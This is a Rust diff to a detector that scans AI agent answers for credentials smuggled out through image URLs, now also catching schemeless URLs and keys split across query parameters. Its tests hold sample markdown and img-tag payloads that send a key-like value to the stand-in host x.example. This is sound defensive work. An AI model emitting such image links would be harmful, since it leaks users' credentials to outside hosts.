@@ -53,22 +53,27 @@ const MAX_URLS: usize = 64;
 /// seen.
 pub fn of_answer(answer: &str, provenance: &Provenance) -> AnswerLinks {
     static URL: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(r#"(?i)(?-u:\b)https?://[^\s<>()\[\]"'`]+"#).expect("URL pattern compiles")
+        // A URL without its scheme (`//x.example/p.png`) is one where a
+        // markdown link, an attribute or an assignment opens.
+        Regex::new(r#"(?i)(?:(?-u:\b)https?:|[("'=])//[^\s<>()\[\]"'`]+"#)
+            .expect("URL pattern compiles")
     });
     let mut links = AnswerLinks::default();
-    if !answer.contains("://") {
+    if !answer.contains("//") {
         return links;
     }
     // Before the agent read anything, only the user can have asked for the
     // image (a QR code of their own account number).
     let read_content = provenance.next_source > 0;
     for found in URL.find_iter(answer).take(MAX_URLS) {
-        let url = found.as_str().trim_end_matches(['.', ',', ';', '!', '?']);
+        let opener = usize::from(!found.as_str().starts_with(['h', 'H']));
+        let start = found.start() + opener;
+        let url = answer[start..found.end()].trim_end_matches(['.', ',', ';', '!', '?']);
         let Some(link) = Link::parse(url) else {
             continue;
         };
         credentials(&link, provenance, &mut links.credentials);
-        if read_content && is_image(answer, found.start()) && !known(url, provenance) {
+        if read_content && is_image(answer, start) && !known(url, provenance) {
             links.image_carries_data |= carries_data(&link, provenance);
         }
         links.hosts.push(link.host.name);
@@ -93,7 +98,7 @@ struct Link<'a> {
 
 impl<'a> Link<'a> {
     fn parse(url: &'a str) -> Option<Self> {
-        let after_scheme = &url[url.find("://")? + 3..];
+        let after_scheme = &url[url.find("//")? + 2..];
         let end = after_scheme
             .find(['/', '?', '#'])
             .unwrap_or(after_scheme.len());
@@ -117,10 +122,16 @@ impl<'a> Link<'a> {
         })
     }
 
-    /// The texts the URL carries: the subdomain, the rest decoded, and
-    /// [`Link::decoded_runs`].
+    /// The texts the URL carries: the subdomain, the rest decoded, its
+    /// query's values run together (a credential split between two is
+    /// still the credential), and [`Link::decoded_runs`].
     fn carried(&self) -> Vec<String> {
         let mut texts = vec![self.subdomain.to_string(), self.decoded.clone()];
+        if let Some((_, query)) = self.decoded.split_once('?') {
+            let query = query.split('#').next().unwrap_or(query);
+            let values = query.split('&').filter_map(|pair| pair.split_once('='));
+            texts.push(values.map(|(_, value)| value).collect());
+        }
         texts.extend(self.decoded_runs());
         texts
     }
@@ -293,6 +304,21 @@ mod tests {
     }
 
     #[test]
+    fn a_credential_counts_split_between_parameters_or_without_a_scheme() {
+        let p = Provenance::default();
+        let (head, tail) = KEY.split_at(18);
+        let split = format!("![](https://x.example/p.png?a={head}&b={tail})");
+        assert_eq!(of_answer(&split, &p).credentials, ["openai_key"]);
+        let schemeless = format!("<img src=\"//x.example/p.png?k={KEY}\">");
+        let links = of_answer(&schemeless, &p);
+        assert_eq!(
+            (links.credentials, links.hosts),
+            (vec!["openai_key"], vec!["x.example".to_string()])
+        );
+        assert!(of_answer("// see the note", &p).hosts.is_empty());
+    }
+
+    #[test]
     fn a_credential_to_its_own_service_does_not_count() {
         let aws = "AKIAQX7P3M2N8R4T6V1Z";
         let p = Provenance::default();
@@ -330,6 +356,8 @@ mod tests {
             let start = text.find("https").unwrap();
             assert_eq!(is_image(&text, start), image, "{text}");
         }
+        let schemeless = "<img src=//x.example/p.png>";
+        assert!(is_image(schemeless, schemeless.find("//").unwrap()));
     }
 
     #[test]
